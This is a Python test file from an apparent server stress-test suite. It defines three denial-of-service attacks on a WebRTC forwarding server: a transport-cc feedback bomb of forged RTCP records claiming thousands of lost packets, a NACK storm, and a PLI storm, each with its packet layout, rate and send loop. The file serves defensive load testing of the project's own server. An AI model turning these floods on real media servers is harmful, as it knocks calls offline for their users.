"""Row 1 and 6: RTCP that costs the server far more than the sender."""

import os
from struct import Struct

from sfu.wire.rtcp import Nack, PictureLossIndication
from tests.siege.attack import Attack
from tests.siege.attacker import Attacker
from tests.siege.insider import Insider

BOMBS = 12  # datagrams, together, once a second
RECORDS = 56  # in a datagram
CLAIMED = 4_096  # statuses of a record of 24 bytes
NACK_RATE = 240  # datagrams a second: 333 kB
NACK_RECORDS = 30
PLI_RATE = 3_000  # datagrams a second

_RECORD = Struct(">BBHIIHHIHH")
_TRANSPORT_CC = 0x80 | 15
_RTPFB = 205


def claims(base: int, count: int) -> bytes:
    """A transport-cc feedback of 24 bytes: one run of `count` packets that never arrived."""
    return _RECORD.pack(
        _TRANSPORT_CC, _RTPFB, 5, 1, 0, base & 0xFFFF, CLAIMED, count & 0xFF, 4096, 0
    )


async def bomb(attacker: Attacker) -> None:
    insider = await attacker.insider()
    await attacker.begin()
    async for due in attacker.pace(1.0):
        for _ in range(due * BOMBS):
            base = attacker.outcome.sent * CLAIMED
            compound = b"".join(claims(base + n * CLAIMED, n) for n in range(RECORDS))
            _throw(attacker, insider, insider.seal_rtcp(compound))


def _throw(attacker: Attacker, insider: Insider, datagram: bytes) -> None:
    insider.send(datagram)
    attacker.count(len(datagram))


async def nacks(attacker: Attacker) -> None:
    insider = await attacker.insider()
    await attacker.begin()
    async for due in attacker.pace(NACK_RATE):
        for _ in range(due):
            records = [_all_lost(insider, n) for n in range(NACK_RECORDS)]
            _throw(attacker, insider, insider.seal_records(*records))


def _all_lost(insider: Insider, number: int) -> Nack:
    """The last 128 packets of one of its slots, every one of them: 8 entries of 17 bits."""
    streams = [stream for stream in insider.streams if stream.is_video] or insider.streams
    stream = streams[number % len(streams)] if streams else None
    newest = stream.next if stream is not None else 0
    lost = tuple((newest - n - 136 * (number % 4)) & 0xFFFF for n in range(136, 0, -1))
    return Nack(1, stream.ssrc if stream is not None else 1, lost)


async def plis(attacker: Attacker) -> None:
    insider = await attacker.insider()
    await attacker.begin()
    async for due in attacker.pace(PLI_RATE):
        for _ in range(min(due, PLI_RATE // 10)):
            ssrcs = [stream.ssrc for stream in insider.streams if stream.is_video]
            ssrc = ssrcs[0] if ssrcs else int.from_bytes(os.urandom(4), "big")
            _throw(attacker, insider, insider.seal_records(PictureLossIndication(1, ssrc)))


ATTACKS = (
    Attack(
        "1",
        "transport-cc feedback bomb",
        f"A student's RTCP: {RECORDS} feedbacks of 24 bytes in a datagram, each about "
        f"{CLAIMED:,} packets, {BOMBS} datagrams once a second",
        bomb,
    ),
    Attack(
        "6a",
        "NACK storm",
        f"{NACK_RECORDS} NACKs of 136 packets in a datagram, {NACK_RATE} datagrams a second",
        nacks,
    ),
    Attack("6b", "PLI storm", f"{PLI_RATE:,} PLIs a second, each in a datagram", plis),
)
